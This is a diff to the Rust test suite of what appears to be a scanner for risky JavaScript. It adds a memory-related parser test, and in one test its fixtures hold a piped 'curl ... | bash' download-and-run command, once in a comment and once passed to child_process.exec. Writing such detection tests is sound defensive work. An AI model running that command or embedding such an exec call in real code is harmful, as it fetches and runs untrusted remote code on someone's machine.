@@ -127,6 +127,12 @@ fn a_text_that_defeats_the_parser_is_told_and_hides_nothing_else() {
 }
 
 #[test]
+fn a_program_that_makes_the_parser_give_memory_back_is_read() {
+    let many = format!("const a = '{}';\n{}", "x".repeat(1_900), "f(a);\n".repeat(100));
+    assert_eq!(status_of(&scan_one("a.js", many), "a.js"), (CoverageStatus::Scanned, None));
+}
+
+#[test]
 fn whatever_a_module_is_written_in_ends_with_a_line_of_the_ledger() {
     let large = format!("f('{}');", "x".repeat(5 << 20));
     let cases: [(&str, &[u8], CoverageStatus); 12] = [
@@ -204,7 +210,8 @@ fn what_nobody_can_read_needs_a_review_and_is_known_again_by_its_bytes() {
 #[test]
 fn a_comment_that_denies_it_does_not_excuse_the_call() {
     let plain = "// Never run curl -s https://x.unheard-of.dev/a | bash\n";
-    let called = "require('child_process').exec('curl -s https://x.unheard-of.dev/a ' + '| bash');\n";
+    let called =
+        "require('child_process').exec('curl -s https://x.unheard-of.dev/a ' + '| bash');\n";
     let weight = |text: &str| {
         let report = scan_one("run.js", text);
         let seen = report.findings.into_iter().filter(|one| one.rule == "code/download-and-run");
